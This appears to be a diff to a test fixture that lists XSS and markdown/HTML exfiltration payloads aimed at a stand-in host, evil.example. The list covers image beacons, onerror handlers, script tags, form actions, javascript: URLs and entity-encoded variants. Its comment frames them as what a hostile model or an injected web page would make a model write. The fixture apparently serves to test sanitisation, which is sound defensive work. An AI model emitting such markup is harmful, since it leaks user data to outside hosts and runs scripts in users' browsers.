@@ -1,7 +1,7 @@
 const host = "https://evil.example";
 const js = "javascript:document.title='taken'";
 
-/** What a hostile model, or a page that it has read, would write to reach out or to run. */
+/** What a hostile model, or a web page that the model has read, would write to contact another host or to run a script. */
 export const payloads = [
   // Images in every form.
   `![a](${host}/1.png)`,
@@ -20,7 +20,7 @@ export const payloads = [
   `- ![a](${host}/11.png)`,
   `# ![a](${host}/12.png)`,
   `![${"x".repeat(500)}](${host}/13.png)`,
-  // HTML that loads.
+  // HTML that loads a resource.
   `<img src=${host}/14.png>`,
   `<img src=x onerror=${js}>`,
   `<img srcset="${host}/15.png 2x">`,
@@ -41,7 +41,7 @@ export const payloads = [
   `<base href=${host}>`,
   `<form action=${host}><button autofocus>x</button></form>`,
   `<input type=image src=${host}/25.png>`,
-  // HTML and SVG that run.
+  // HTML and SVG that run a script.
   `<script>document.title='taken'</script>`,
   `<script src=${host}/26.js></script>`,
   `<SCRIPT/SRC="${host}/27.js"></SCRIPT>`,
@@ -74,7 +74,7 @@ export const payloads = [
   `[a][j]\n\n[j]: ${js}`,
   `<${js}>`,
   `[^1]\n\n[^1]: <img src=${host}/30.png>`,
-  // Names that a browser resolves, and some that only look like it.
+  // Names that a browser resolves as properties, and names that only look like them.
   `&lt;img src=${host}/31.png&gt;`,
   `&#60;script&#62;document.title='taken'&#x3c;/script&#x3e;`,
   `[a](&#x6A&#x61&#x76&#x61script:document.title='taken')`,
